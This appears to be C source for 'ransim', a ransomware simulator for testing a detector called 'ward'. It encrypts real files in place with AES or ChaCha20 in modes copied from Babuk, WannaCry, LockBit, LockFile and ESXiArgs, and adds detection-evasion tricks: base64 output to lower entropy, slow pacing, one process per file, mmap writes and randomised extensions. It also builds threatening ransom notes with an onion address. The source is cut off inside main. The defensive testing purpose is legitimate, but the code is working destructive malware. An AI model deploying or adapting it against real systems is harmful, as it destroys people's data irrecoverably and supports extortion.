/* ransim: a ransomware simulator that really encrypts a data tree, one mode per published
 * family behaviour, so the black-box tests can check that ward stops it early.
 *
 * Design. The program walks --root with nftw(3) (enumerate first, then encrypt: Babuk and
 * Conti both split a directory-walking producer from encrypting workers), then hands each
 * regular file to the mode's routine. Every mode writes real AES-256-CTR (or ChaCha20)
 * ciphertext produced by OpenSSL EVP; only the byte pattern, the I/O path (pwrite, O_TRUNC,
 * new file + unlink, shared mmap) and the process shape (one process, threads, a child per
 * file) differ. Nothing a detector could key on is fixed: the extension, the ransom note's
 * name and its text are chosen per run from --seed (or --ext / --note-name).
 *
 * Accounting. ward may SIGSTOP or SIGKILL us, so before the first modifying syscall on a
 * file one line "<realtime_ns> <pid> enc <path>" is appended to --log (opened O_APPEND
 * before the attack starts, one write(2) per line, so nothing sits in a stdio buffer).
 * Notes give "<ns> <pid> note <path>". In paths, '\' is written "\\" and newline "\n".
 * On a clean exit (or SIGTERM/SIGINT) one JSON line goes to stdout:
 *   {"mode":..,"files_modified":N,"first_write_ns":N,"pid":N,...}
 * Counters live in a MAP_SHARED page so fork-per-file children count too.
 *
 * Never run this outside a scratch tree: it destroys data (the key is not kept). */
#include <errno.h>
#include <fcntl.h>
#include <ftw.h>
#include <getopt.h>
#include <inttypes.h>
#include <limits.h>
#include <pthread.h>
#include <signal.h>
#include <stdatomic.h>
#include <stdbool.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/mman.h>
#include <sys/random.h>
#include <sys/stat.h>
#include <sys/wait.h>
#include <time.h>
#include <unistd.h>

#include <openssl/evp.h>
#include <openssl/rand.h>

#define KIB (1024ULL)
#define MIB (1024ULL * 1024ULL)
#define CHUNK (10 * MIB) /* Babuk's I/O unit, used by every in-place mode */
#define NO_STRIDE UINT64_MAX

enum rename_when { REN_NONE, REN_BEFORE, REN_AFTER, REN_NEWFILE };
enum io_kind { IO_PWRITE, IO_OTRUNC, IO_NEWFILE, IO_BASE64, IO_MMAP, IO_NONE };
enum runner { RUN_SEQ, RUN_FORK, RUN_THREADS };

/* Which bytes get encrypted: `span` bytes at every multiple of `stride`, within the first
 * `limit` bytes. A file smaller than `small_below` uses the `small_*` pattern instead. */
struct pattern {
	uint64_t span, stride, limit;
	uint64_t small_below, small_span;
};

struct mode {
	const char *name;
	enum io_kind io;
	enum rename_when ren;
	enum runner run;
	struct pattern pat;
	unsigned default_delay_ms;
	const char *why; /* the family and published behaviour it models */
};

#define FULL(cap) { .span = NO_STRIDE, .stride = NO_STRIDE, .limit = (cap) }

static const struct mode modes[] = {
	/* Babuk ESXi locker (leaked source, Sept 2021; SentinelOne/Trend Micro write-ups): reads
	 * and rewrites each VM file in place in 10 MiB chunks, stopping after the first 512 MiB of
	 * large disks, then renames it with the family extension. */
	{ "babuk-esxi", IO_PWRITE, REN_AFTER, RUN_SEQ, FULL(512 * MIB), 0,
	  "Babuk ESXi: in-place 10 MiB chunks, first 512 MiB, rename after" },
	/* Babuk NAS locker (Go build, 2021): renames first, then encrypts 1 MiB out of every
	 * 10 MiB, or only the head of small files, to get through NAS volumes fast. */
	{ "babuk-nas", IO_PWRITE, REN_BEFORE, RUN_SEQ,
	  { .span = 1 * MIB, .stride = 10 * MIB, .limit = UINT64_MAX, .small_below = 10 * MIB,
	    .small_span = 4 * MIB }, 0,
	  "Babuk NAS: rename first, 1 MiB per 10 MiB, first 4 MiB of small files" },
	/* WannaCry (2017; Mandiant, Kaspersky, Secureworks analyses): writes the ciphertext to a
	 * new file next to the original and then deletes the original. It defers files over
	 * 200 MiB, which --max-size models by skipping them. */
	{ "wannacry", IO_NEWFILE, REN_NEWFILE, RUN_SEQ, FULL(UINT64_MAX), 0,
	  "WannaCry: new encrypted file, then delete the original" },
	/* LockBit 2.0 (Trend Micro, Aug 2021: "encrypts only the first 4 KB of a file"): header
	 * only, in place; the rename is left out so detection cannot lean on it. */
	{ "header", IO_PWRITE, REN_NONE, RUN_SEQ,
	  { .span = 4 * KIB, .stride = NO_STRIDE, .limit = 4 * KIB }, 0,
	  "LockBit 2.0: first 4 KiB only, in place, no rename" },
	/* LockFile (Sophos, Aug 2021, "LockFile ransomware's box of tricks"): intermittent
	 * encryption of every other 16 bytes, which keeps a whole-file entropy score low. */
	{ "lockfile", IO_PWRITE, REN_AFTER, RUN_SEQ,
	  { .span = 16, .stride = 32, .limit = UINT64_MAX }, 0,
	  "LockFile: every other 16 bytes, in place" },
	/* ESXiArgs v2 (CISA AA23-039A and the Feb 2023 re-release that encrypts more of each
	 * file) and PLAY (Trend Micro, 2022): alternating encrypted/plain 1 MiB blocks, names
	 * kept. */
	{ "esxiargs", IO_PWRITE, REN_NONE, RUN_SEQ,
	  { .span = 1 * MIB, .stride = 2 * MIB, .limit = UINT64_MAX }, 0,
	  "ESXiArgs v2 / PLAY: alternating 1 MiB blocks, in place" },
	/* Format-preserving evasion (McIntosh et al., "The Inadequacy of Entropy-based
	 * Ransomware Detection", ICONIP 2019): ciphertext base64-encoded so the written bytes
	 * score about 6 bits/byte, written over the file. */
	{ "base64", IO_BASE64, REN_NONE, RUN_SEQ, FULL(UINT64_MAX), 0,
	  "entropy evasion: base64 ciphertext written over the file" },
	/* "Low and slow": pacing to stay under rate thresholds. Not one family's signature but
	 * the evasion any rate-based detector must survive; whole-file Babuk-style, one file
	 * every few seconds. */
	{ "slow", IO_PWRITE, REN_AFTER, RUN_SEQ, FULL(512 * MIB), 3000,
	  "paced encryption: one file every --delay-ms (default 3 s)" },
	/* ESXiArgs encrypt.sh starts one `encrypt` process per VM file in the background, so no
	 * single process touches more than one file. */
	{ "fork-per-file", IO_PWRITE, REN_AFTER, RUN_FORK, FULL(512 * MIB), 0,
	  "ESXiArgs encrypt.sh: one child process per file" },
	/* Babuk (Linux/ESXi) and Conti run a pool of encrypting threads fed by the walker. */
	{ "threads", IO_PWRITE, REN_AFTER, RUN_THREADS, FULL(512 * MIB), 0,
	  "Babuk/Conti: pool of --threads worker threads" },
	/* LockFile (Sophos, 2021) and later families write through memory-mapped I/O, so the
	 * modifying writes happen as page writeback rather than write(2) calls. */
	{ "mmap", IO_MMAP, REN_AFTER, RUN_SEQ, FULL(512 * MIB), 0,
	  "LockFile: encryption through a shared mmap" },
	/* Hidden Tear (open-source family, 2015, and its many forks): reads the whole file,
	 * File.WriteAllBytes (open with truncation) the ciphertext, then renames. */
	{ "otrunc", IO_OTRUNC, REN_AFTER, RUN_SEQ, FULL(UINT64_MAX), 0,
	  "Hidden Tear: read, open O_TRUNC, write ciphertext, rename" },
	/* Ransom notes alone (every family drops one per directory): see --notes. */
	{ "notes", IO_NONE, REN_NONE, RUN_SEQ, FULL(0), 0,
	  "ransom notes only, one per directory" },
};

/* Shared with fork-per-file children: a MAP_SHARED|MAP_ANONYMOUS page. */
struct shared {
	atomic_uint_fast64_t claimed;  /* files whose modification started (log lines) */
	atomic_uint_fast64_t done;     /* files completely processed */
	atomic_uint_fast64_t notes;
	atomic_uint_fast64_t errors;
	atomic_uint_fast64_t first_write_ns;
};

static struct {
	const struct mode *mode;
	const char *root;
	char ext[64];
	char note_name[128];
	char *note_text;
	unsigned char key[32];
	unsigned char iv_base[16];
	const EVP_CIPHER *cipher;
	const char *cipher_name;
	unsigned delay_ms;
	uint64_t limit;
	uint64_t max_size;
	enum rename_when ren;
	unsigned threads;
	bool notes;
	int log_fd;
	dev_t log_dev;
	ino_t log_ino;
	uint64_t seed;
	struct shared *sh;
	char **files;
	size_t nfiles, cap;
	char **dirs;
	size_t ndirs, dcap;
	atomic_size_t next; /* next index into files for workers */
} g = { .log_fd = -1 };

static volatile sig_atomic_t stop_requested;

static void on_signal(int sig)
{
	(void)sig;
	stop_requested = 1;
}

/* splitmix64: a tiny deterministic generator for names and note text. Not for keys unless
 * --seed asks for reproducibility. */
static uint64_t rng_state;
static uint64_t rng_next(void)
{
	uint64_t z = (rng_state += 0x9e3779b97f4a7c15ULL);
	z = (z ^ (z >> 30)) * 0xbf58476d1ce4e5b9ULL;
	z = (z ^ (z >> 27)) * 0x94d049bb133111ebULL;
	return z ^ (z >> 31);
}
static unsigned rng_below(unsigned n) { return (unsigned)(rng_next() % n); }

static void rng_word(char *out, size_t len, const char *alphabet)
{
	size_t n = strlen(alphabet);
	for (size_t i = 0; i < len; i++)
		out[i] = alphabet[rng_below((unsigned)n)];
	out[len] = '\0';
}

static uint64_t now_ns(void)
{
	struct timespec ts;
	clock_gettime(CLOCK_REALTIME, &ts);
	return (uint64_t)ts.tv_sec * 1000000000ULL + (uint64_t)ts.tv_nsec;
}

static void sleep_ms(unsigned ms)
{
	struct timespec ts = { .tv_sec = ms / 1000, .tv_nsec = (long)(ms % 1000) * 1000000L };
	while (nanosleep(&ts, &ts) == -1 && errno == EINTR && !stop_requested)
		;
}

/* One write(2) per line, so a SIGKILL never loses a line that was reported as written. */
static void log_line(const char *kind, const char *path, uint64_t ns)
{
	if (g.log_fd < 0)
		return;
	size_t plen = strlen(path);
	size_t cap = plen * 2 + 96;
	char *buf = malloc(cap);
	if (!buf)
		return;
	int n = snprintf(buf, cap, "%" PRIu64 " %ld %s ", ns, (long)getpid(), kind);
	size_t o = (size_t)n;
	for (size_t i = 0; i < plen; i++) {
		if (path[i] == '\\') {
			buf[o++] = '\\';
			buf[o++] = '\\';
		} else if (path[i] == '\n') {
			buf[o++] = '\\';
			buf[o++] = 'n';
		} else {
			buf[o++] = path[i];
		}
	}
	buf[o++] = '\n';
	ssize_t w;
	do
		w = write(g.log_fd, buf, o);
	while (w == -1 && errno == EINTR);
	free(buf);
}

/* Called right before the first modifying syscall on a file. Returns false when --limit
 * is reached, so the file is left alone. */
static bool claim_file(const char *path)
{
	uint64_t n = atomic_fetch_add(&g.sh->claimed, 1);
	if (g.limit && n >= g.limit) {
		atomic_fetch_sub(&g.sh->claimed, 1);
		return false;
	}
	uint64_t ns = now_ns();
	uint_fast64_t zero = 0;
	atomic_compare_exchange_strong(&g.sh->first_write_ns, &zero, ns);
	log_line("enc", path, ns);
	return true;
}

static bool limit_reached(void)
{
	return g.limit && atomic_load(&g.sh->claimed) >= g.limit;
}

/* ---- crypto ---- */

static EVP_CIPHER_CTX *cipher_for(size_t file_index)
{
	unsigned char iv[16];
	/* A distinct nonce per file (the key is per run, as in Babuk's per-file ECDH key).
	 * AES-CTR: 64-bit nonce, then a 64-bit big-endian block counter from 0.
	 * ChaCha20 (OpenSSL layout): 32-bit counter from 0, then the 96-bit nonce. */
	int at = g.cipher == EVP_chacha20() ? 4 : 0;
	memcpy(iv, g.iv_base, sizeof(iv));
	for (int i = 0; i < 8; i++)
		iv[at + i] ^= (unsigned char)(file_index >> (8 * i));
	if (at)
		memset(iv, 0, 4);
	else
		memset(iv + 8, 0, 8);
	EVP_CIPHER_CTX *c = EVP_CIPHER_CTX_new();
	if (!c)
		return NULL;
	if (EVP_EncryptInit_ex(c, g.cipher, NULL, g.key, iv) != 1) {
		EVP_CIPHER_CTX_free(c);
		return NULL;
	}
	return c;
}

/* Stream ciphers keep length: in and out may be the same buffer. */
static int crypt_buf(EVP_CIPHER_CTX *c, unsigned char *buf, size_t len)
{
	while (len) {
		int n = len > INT_MAX / 2 ? INT_MAX / 2 : (int)len, out = 0;
		if (EVP_EncryptUpdate(c, buf, &out, buf, n) != 1 || out != n)
			return -EIO;
		buf += n;
		len -= (size_t)n;
	}
	return 0;
}

/* ---- I/O helpers ---- */

static int pread_full(int fd, unsigned char *buf, size_t len, uint64_t off)
{
	size_t got = 0;
	while (got < len) {
		ssize_t r = pread(fd, buf + got, len - got, (off_t)(off + got));
		if (r < 0 && errno == EINTR)
			continue;
		if (r < 0)
			return -errno;
		if (r == 0)
			return -EIO; /* file shrank under us */
		got += (size_t)r;
	}
	return 0;
}

static int pwrite_full(int fd, const unsigned char *buf, size_t len, uint64_t off)
{
	size_t put = 0;
	while (put < len) {
		ssize_t w = pwrite(fd, buf + put, len - put, (off_t)(off + put));
		if (w < 0 && errno == EINTR)
			continue;
		if (w < 0)
			return -errno;
		put += (size_t)w;
	}
	return 0;
}

static int write_full(int fd, const unsigned char *buf, size_t len)
{
	size_t put = 0;
	while (put < len) {
		ssize_t w = write(fd, buf + put, len - put);
		if (w < 0 && errno == EINTR)
			continue;
		if (w < 0)
			return -errno;
		put += (size_t)w;
	}
	return 0;
}

static char *with_ext(const char *path)
{
	size_t n = strlen(path) + strlen(g.ext) + 2;
	char *p = malloc(n);
	if (p)
		snprintf(p, n, "%s.%s", path, g.ext);
	return p;
}

/* ---- modes ---- */

/* In place with pread/pwrite, following the pattern. Runs of 4 KiB or more are read and
 * written run by run (at most CHUNK at a time); short strided runs (LockFile) are handled
 * a CHUNK at a time, XORing only the selected bytes, and the chunk written back whole. */
static int encrypt_pwrite(int fd, uint64_t size, EVP_CIPHER_CTX *c, const struct pattern *pat)
{
	uint64_t span = pat->span, stride = pat->stride, limit = pat->limit;
	if (pat->small_below && size < pat->small_below) {
		span = pat->small_span;
		stride = NO_STRIDE;
		limit = pat->small_span;
	}
	uint64_t end = size < limit ? size : limit;
	int rc = 0;
	unsigned char *buf = malloc(CHUNK), *ks = NULL;
	if (!buf)
		return -ENOMEM;

	if (span >= 4 * KIB) {
		for (uint64_t run = 0; run < end && !stop_requested; run += stride) {
			uint64_t run_end = span != NO_STRIDE && run + span < end ? run + span : end;
			for (uint64_t off = run; off < run_end; off += CHUNK) {
				size_t n = (size_t)(run_end - off < CHUNK ? run_end - off : CHUNK);
				if ((rc = pread_full(fd, buf, n, off)) < 0 ||
				    (rc = crypt_buf(c, buf, n)) < 0 ||
				    (rc = pwrite_full(fd, buf, n, off)) < 0)
					goto out;
			}
			if (stride == NO_STRIDE)
				break;
		}
		goto out;
	}

	/* stride divides CHUNK for every mode that gets here (16/32). */
	ks = malloc(CHUNK);
	if (!ks) {
		rc = -ENOMEM;
		goto out;
	}
	for (uint64_t off = 0; off < end && !stop_requested; off += CHUNK) {
		size_t n = (size_t)(end - off < CHUNK ? end - off : CHUNK);
		if ((rc = pread_full(fd, buf, n, off)) < 0)
			goto out;
		memcpy(ks, buf, n);
		if ((rc = crypt_buf(c, ks, n)) < 0)
			goto out;
		for (size_t i = 0; i < n; i += (size_t)stride) {
			size_t m = n - i < span ? n - i : (size_t)span;
			memcpy(buf + i, ks + i, m);
		}
		if ((rc = pwrite_full(fd, buf, n, off)) < 0)
			goto out;
	}
out:
	free(ks);
	free(buf);
	return rc;
}

static int encrypt_mmap(int fd, uint64_t size, EVP_CIPHER_CTX *c, uint64_t cap)
{
	uint64_t end = size < cap ? size : cap;
	const uint64_t window = 64 * MIB; /* bounded mappings, as LockFile maps views */
	for (uint64_t off = 0; off < end && !stop_requested; off += window) {
		size_t n = (size_t)(end - off < window ? end - off : window);
		unsigned char *p = mmap(NULL, n, PROT_READ | PROT_WRITE, MAP_SHARED, fd, (off_t)off);
		if (p == MAP_FAILED)
			return -errno;
		int rc = crypt_buf(c, p, n);
		/* No msync: the point is that the data reaches the file by writeback. */
		munmap(p, n);
		if (rc < 0)
			return rc;
	}
	return 0;
}

/* Reads the whole file (callers bound the size with --max-size). */
static int slurp(int fd, uint64_t size, unsigned char **out)
{
	unsigned char *buf = malloc(size ? size : 1);
	if (!buf)
		return -ENOMEM;
	int rc = pread_full(fd, buf, (size_t)size, 0);
	if (rc < 0) {
		free(buf);
		return rc;
	}
	*out = buf;
	return 0;
}

static int process_file(const char *path, size_t index)
{
	const struct mode *m = g.mode;
	char *cur = NULL, *dst = NULL;
	unsigned char *data = NULL, *b64 = NULL;
	int fd = -1, ofd = -1, rc = 0;
	bool claimed = false;
	EVP_CIPHER_CTX *c = NULL;
	struct stat st;

	if (stop_requested || limit_reached())
		return 0;
	if (lstat(path, &st) < 0)
		return -errno;
	if (!S_ISREG(st.st_mode) || st.st_size == 0)
		return 0;
	uint64_t size = (uint64_t)st.st_size;
	if ((m->io == IO_NEWFILE || m->io == IO_OTRUNC || m->io == IO_BASE64) &&
	    size > g.max_size)
		return 0;
	if (!(c = cipher_for(index)))
		return -ENOMEM;
	if (!(dst = with_ext(path))) {
		rc = -ENOMEM;
		goto out;
	}
	cur = strdup(path);
	if (!cur) {
		rc = -ENOMEM;
		goto out;
	}

	if (g.ren == REN_BEFORE) {
		if (!(claimed = claim_file(path)))
			goto out;
		if (rename(path, dst) < 0) {
			rc = -errno;
			goto out;
		}
		free(cur);
		cur = dst;
		dst = NULL;
	}

	switch (m->io) {
	case IO_PWRITE:
	case IO_MMAP:
		fd = open(cur, O_RDWR | O_CLOEXEC | O_NOFOLLOW);
		if (fd < 0) {
			rc = -errno;
			goto out;
		}
		if (!claimed && !(claimed = claim_file(path)))
			goto out;
		rc = m->io == IO_MMAP ? encrypt_mmap(fd, size, c, m->pat.limit)
				      : encrypt_pwrite(fd, size, c, &m->pat);
		break;
	case IO_OTRUNC:
	case IO_BASE64:
		fd = open(cur, O_RDONLY | O_CLOEXEC | O_NOFOLLOW);
		if (fd < 0) {
			rc = -errno;
			goto out;
		}
		if ((rc = slurp(fd, size, &data)) < 0 || (rc = crypt_buf(c, data, size)) < 0)
			goto out;
		close(fd);
		fd = -1;
		if (!claimed && !(claimed = claim_file(path)))
			goto out;
		if (m->io == IO_OTRUNC) {
			fd = open(cur, O_WRONLY | O_TRUNC | O_CLOEXEC | O_NOFOLLOW);
			if (fd < 0) {
				rc = -errno;
				goto out;
			}
			rc = write_full(fd, data, (size_t)size);
		} else {
			/* Written over the file from offset 0; base64 is longer, so it covers it. */
			size_t blen = 4 * ((size + 2) / 3) + 1;
			if (!(b64 = malloc(blen))) {
				rc = -ENOMEM;
				goto out;
			}
			int n = EVP_EncodeBlock(b64, data, (int)size);
			fd = open(cur, O_WRONLY | O_CLOEXEC | O_NOFOLLOW);
			if (fd < 0) {
				rc = -errno;
				goto out;
			}
			rc = pwrite_full(fd, b64, (size_t)n, 0);
		}
		break;
	case IO_NEWFILE: {
		fd = open(cur, O_RDONLY | O_CLOEXEC | O_NOFOLLOW);
		if (fd < 0) {
			rc = -errno;
			goto out;
		}
		if (!(claimed = claim_file(path)))
			goto out;
		ofd = open(dst, O_WRONLY | O_CREAT | O_EXCL | O_CLOEXEC, st.st_mode & 07777);
		if (ofd < 0) {
			rc = -errno;
			goto out;
		}
		if (!(data = malloc(CHUNK))) {
			rc = -ENOMEM;
			goto out;
		}
		for (uint64_t off = 0; off < size && !stop_requested; off += CHUNK) {
			size_t n = (size_t)(size - off < CHUNK ? size - off : CHUNK);
			if ((rc = pread_full(fd, data, n, off)) < 0 || (rc = crypt_buf(c, data, n)) < 0 ||
			    (rc = write_full(ofd, data, n)) < 0)
				goto out;
		}
		if (close(ofd) < 0) {
			ofd = -1;
			rc = -errno;
			goto out;
		}
		ofd = -1;
		if (unlink(cur) < 0)
			rc = -errno;
		break;
	}
	case IO_NONE:
		break;
	}
	if (rc < 0)
		goto out;
	if (fd >= 0 && close(fd) < 0) {
		fd = -1;
		rc = -errno;
		goto out;
	}
	fd = -1;
	if (g.ren == REN_AFTER && !stop_requested && rename(cur, dst) < 0) {
		rc = -errno;
		goto out;
	}
	if (claimed)
		atomic_fetch_add(&g.sh->done, 1);
out:
	if (ofd >= 0)
		close(ofd);
	if (fd >= 0)
		close(fd);
	EVP_CIPHER_CTX_free(c);
	free(b64);
	free(data);
	free(cur);
	free(dst);
	if (rc < 0) {
		atomic_fetch_add(&g.sh->errors, 1);
		fprintf(stderr, "ransim: %s: %s\n", path, strerror(-rc));
	}
	return rc;
}

/* ---- notes ---- */

static const char *const note_stems[] = {
	"README", "HOW_TO_RESTORE", "RECOVER-FILES", "read_me", "DECRYPT-INFO", "!!_INFO",
	"RESTORE_MY_DATA", "Instructions", "ATTENTION", "how-to-back-files",
};
static const char *const note_exts[] = { "txt", "html", "hta", "txt", "TXT" };
static const char *const note_open[] = {
	"Your files have been encrypted.",
	"All of your documents, databases and backups are locked.",
	"ATTENTION! Your network has been compromised.",
	"Hello. Everything on this server is now encrypted with a strong algorithm.",
	"What happened? Your data is encrypted and copied to our servers.",
};
static const char *const note_threat[] = {
	"Do not rename the files or try third-party tools: you will lose them forever.",
	"If you do not contact us within 72 hours the price doubles.",
	"Your stolen data will be published if we do not hear from you.",
	"Restoring from backups will not help: we deleted them.",
};
static const char *const note_contact[] = {
	"Write to us with your ID:", "Contact support through the portal, give this ID:",
	"Send this key to our mailbox:", "Your personal identifier:",
};

static void make_note_text(void)
{
	char id[49], site[57];
	rng_word(id, 32 + rng_below(16), "0123456789abcdef");
	rng_word(site, 56, "abcdefghijklmnopqrstuvwxyz234567");
	size_t cap = 2048;
	g.note_text = malloc(cap);
	if (!g.note_text)
		return;
	snprintf(g.note_text, cap,
		 "%s\n\n%s\nFiles now end in .%s.\n\n%s\n%s\n\nhttp://%s.onion/\n\n%s\n",
		 note_open[rng_below(5)], note_threat[rng_below(4)], g.ext,
		 note_contact[rng_below(4)], id, site, note_threat[rng_below(4)]);
}

static void drop_note(const char *dir)
{
	size_t n = strlen(dir) + strlen(g.note_name) + 2;
	char *p = malloc(n);
	if (!p)
		return;
	snprintf(p, n, "%s/%s", dir, g.note_name);
	log_line("note", p, now_ns());
	uint_fast64_t zero = 0;
	atomic_compare_exchange_strong(&g.sh->first_write_ns, &zero, now_ns());
	int fd = open(p, O_WRONLY | O_CREAT | O_TRUNC | O_CLOEXEC | O_NOFOLLOW, 0644);
	if (fd < 0 || write_full(fd, (const unsigned char *)g.note_text, strlen(g.note_text)) < 0) {
		atomic_fetch_add(&g.sh->errors, 1);
	} else {
		atomic_fetch_add(&g.sh->notes, 1);
	}
	if (fd >= 0)
		close(fd);
	free(p);
}

/* ---- walk ---- */

static bool ends_with_ext(const char *name)
{
	size_t n = strlen(name), e = strlen(g.ext);
	return n > e + 1 && name[n - e - 1] == '.' && strcmp(name + n - e, g.ext) == 0;
}

static int push(char ***v, size_t *n, size_t *cap, const char *s)
{
	if (*n == *cap) {
		size_t nc = *cap ? *cap * 2 : 256;
		char **nv = realloc(*v, nc * sizeof(*nv));
		if (!nv)
			return -ENOMEM;
		*v = nv;
		*cap = nc;
	}
	if (!((*v)[*n] = strdup(s)))
		return -ENOMEM;
	(*n)++;
	return 0;
}

static int walk_cb(const char *fpath, const struct stat *sb, int typeflag, struct FTW *ftwbuf)
{
	if (stop_requested)
		return 1;
	if (typeflag == FTW_D)
		return push(&g.dirs, &g.ndirs, &g.dcap, fpath) ? 1 : 0;
	if (typeflag != FTW_F || !S_ISREG(sb->st_mode))
		return 0;
	const char *name = fpath + ftwbuf->base;
	if (ends_with_ext(name) || strcmp(name, g.note_name) == 0)
		return 0;
	if (g.log_fd >= 0 && sb->st_dev == g.log_dev && sb->st_ino == g.log_ino)
		return 0;
	return push(&g.files, &g.nfiles, &g.cap, fpath) ? 1 : 0;
}

/* ---- runners ---- */

static void *worker(void *arg)
{
	(void)arg;
	for (;;) {
		size_t i = atomic_fetch_add(&g.next, 1);
		if (i >= g.nfiles || stop_requested || limit_reached())
			break;
		process_file(g.files[i], i);
		if (g.delay_ms)
			sleep_ms(g.delay_ms);
	}
	return NULL;
}

static void run_fork(void)
{
	unsigned inflight = 0;
	for (size_t i = 0; i < g.nfiles && !stop_requested && !limit_reached(); i++) {
		while (inflight >= g.threads) {
			if (wait(NULL) > 0 || errno == ECHILD)
				inflight = inflight ? inflight - 1 : 0;
		}
		pid_t pid = fork();
		if (pid == 0) {
			_exit(process_file(g.files[i], i) < 0 ? 1 : 0);
		} else if (pid < 0) {
			atomic_fetch_add(&g.sh->errors, 1);
			perror("ransim: fork");
			break;
		}
		inflight++;
		if (g.delay_ms)
			sleep_ms(g.delay_ms);
	}
	while (wait(NULL) > 0 || errno == EINTR)
		;
}

static void usage(FILE *f)
{
	fprintf(f,
		"usage: ransim --mode NAME --root DIR [--log FILE] [--ext EXT] [--key HEX64]\n"
		"              [--seed N] [--delay-ms N] [--limit N] [--threads N] [--notes]\n"
		"              [--note-name NAME] [--cipher aes|chacha20] [--max-size BYTES]\n"
		"              [--rename default|none|before|after]\n"
		"DESTROYS the files under DIR. Modes:\n");
	for (size_t i = 0; i < sizeof(modes) / sizeof(modes[0]); i++)
		fprintf(f, "  %-14s %s\n", modes[i].name, modes[i].why);
}

static int parse_hex_key(const char *s, unsigned char key[32])
{
	if (strlen(s) != 64)
		return -EINVAL;
	for (int i = 0; i < 32; i++) {
		unsigned v;
		if (sscanf(s + 2 * i, "%2x", &v) != 1)
			return -EINVAL;
		key[i] = (unsigned char)v;
	}
	return 0;
}

static void json_str(const char *k, const char *v)
{
	printf(",\"%s\":\"", k);
	for (const unsigned char *p = (const unsigned char *)v; *p; p++) {
		if (*p == '"' || *p == '\\')
			printf("\\%c", *p);
		else if (*p < 0x20)
			printf("\\u%04x", *p);
		else
			putchar(*p);
	}
	putchar('"');
}

int main(int argc, char **argv)
{
	enum { O_EXT = 1000, O_KEY, O_DELAY, O_LIMIT, O_SEED, O_LOG, O_NOTES, O_NOTE_NAME,
	       O_THREADS, O_CIPHER, O_MAXSIZE, O_RENAME };
	static const struct option opts[] = {
		{ "mode", required_argument, NULL, 'm' },
		{ "root", required_argument, NULL, 'r' },
		{ "ext", required_argument, NULL, O_EXT },
		{ "key", required_argument, NULL, O_KEY },
		{ "delay-ms", required_argument, NULL, O_DELAY },
		{ "limit", required_argument, NULL, O_LIMIT },
		{ "seed", required_argument, NULL, O_SEED },
		{ "log", required_argument, NULL, O_LOG },
		{ "notes", no_argument, NULL, O_NOTES },
		{ "note-name", required_argument, NULL, O_NOTE_NAME },
		{ "threads", required_argument, NULL, O_THREADS },
		{ "cipher", required_argument, NULL, O_CIPHER },
		{ "max-size", required_argument, NULL, O_MAXSIZE },
		{ "rename", required_argument, NULL, O_RENAME },
		{ "help", no_argument, NULL, 'h' },
		{ 0 },
	};
	const char *mode_name = NULL, *ext = NULL, *keyhex = NULL, *log_path = NULL;
	const char *note_name = NULL, *cipher = "aes", *ren = "default";
	long delay = -1;
	bool have_seed = false;
	int o;

	g.threads = 4;
	g.max_size = 200 * MIB;
	while ((o = getopt_long(argc, argv, "m:r:h", opts, NULL)) != -1) {
		switch (o) {
		case 'm': mode_name = optarg; break;
		case 'r': g.root = optarg; break;
		case O_EXT: ext = optarg; break;
		case O_KEY: keyhex = optarg; break;
		case O_DELAY: delay = strtol(optarg, NULL, 10); break;
		case O_LIMIT: g.limit = strtoull(optarg, NULL, 10); break;
		case O_SEED: g.seed = strtoull(optarg, NULL, 0); have_seed = true; break;
		case O_LOG: log_path = optarg; break;
		case O_NOTES: g.notes = true; break;
		case O_NOTE_NAME: note_name = optarg; break;
		case O_THREADS: g.threads = (unsigned)strtoul(optarg, NULL, 10); break;
		case O_CIPHER: cipher = optarg; break;
		case O_MAXSIZE: g.max_size = strtoull(optarg, NULL, 0); break;
		case O_RENAME: ren = optarg; break;
		case 'h': usage(stdout); return 0;
		default: usage(stderr); return 2;
		}
	}
	for (size_t i = 0; mode_name && i < sizeof(modes) / sizeof(modes[0]); i++)
		if (strcmp(modes[i].name, mode_name) == 0)
			g.mode = &modes[i];
	if (!g.mode || !g.root || optind != argc || g.threads == 0 || g.threads > 256) {
		usage(stderr);
		return 2;
	}
	/* A guard for a typo, not a sandbox: never walk the whole system. */
	char *real = realpath(g.root, NULL);
	if (!real || strcmp(real, "/") == 0) {
		fprintf(stderr, "ransim: refusing root %s\n", g.root);
		free(real);
		return 2;
	}
	free(real);
	if (strcmp(g.mode->name, "notes") == 0)
		g.notes = true;
	g.delay_ms = delay >= 0 ? (unsigned)delay : g.mode->default_delay_ms;
	g.ren = g.mode->ren;
	if (strcmp(ren, "none") == 0 && g.mode->ren != REN_NEWFILE)
		g.ren = REN_NONE;
	else if (strcmp(ren, "before") == 0 && g.mode->ren != REN_NEWFILE)
		g.ren = REN_BEFORE;
	else if (strcmp(ren, "after") == 0 && g.mode->ren != REN_NEWFILE)
		g.ren = REN_AFTER;
	else if (strcmp(ren, "default") != 0) {
		fprintf(stderr, "ransim: --rename %s does not apply to %s\n", ren, g.mode->name);
		return 2;
	}
	if (strcmp(cipher, "aes") == 0) {
		g.cipher = EVP_aes_256_ctr();
		g.cipher_name = "aes-256-ctr";
	} else if (strcmp(cipher, "chacha20") == 0) {
		g.cipher = EVP_chacha20();
		g.cipher_name = "chacha20";
	} else {
		fprintf(stderr, "ransim: unknown cipher %s\n", cipher);
		return 2;
	}

	/* Per-run choices. --seed makes names, note text and key reproducible. */
	if (!have_seed && getrandom(&g.seed, sizeof(g.seed), 0) != sizeof(g.seed))
		g.seed = now_ns() ^ (uint64_t)getpid();
	rng_state = g.seed;
	if (ext) {
		if (!*ext || strchr(ext, '/') || strlen(ext) >= sizeof(g.ext)) {
			fprintf(stderr, "ransim: bad --ext\n");
			return 2;
		}
		snprintf(g.ext, sizeof(g.ext), "%s", ext);
	} else {
		rng_word(g.ext, 4 + rng_below(5), "abcdefghijklmnopqrstuvwxyz0123456789");
	}
	if (note_name) {
		if (!*note_name || strchr(note_name, '/') || strlen(note_name) >= sizeof(g.note_name)) {
			fprintf(stderr, "ransim: bad --note-name\n");
			return 2;
		}
		snprintf(g.note_name, sizeof(g.note_name), "%s", note_name);
	} else {
		char tag[9];
		rng_word(tag, 3 + rng_below(6), "ABCDEFGHJKLMNPQRSTUVWXYZ23456789");
		snprintf(g.note_name, sizeof(g.note_name), "%s-%s.%s", note_stems[rng_below(10)], tag,
			 note_exts[rng_below(5)]);
	}
	if (keyhex) {
		if (parse_hex_key(keyhex, g.key) < 0) {
			fprintf(stderr, "ransim: --key wants 64 hex digits\n");
			return 2;
		}
	} else if (have_seed) {
		for (int i = 0; i < 32; i += 8) {
			uint64_t v = rng_next();
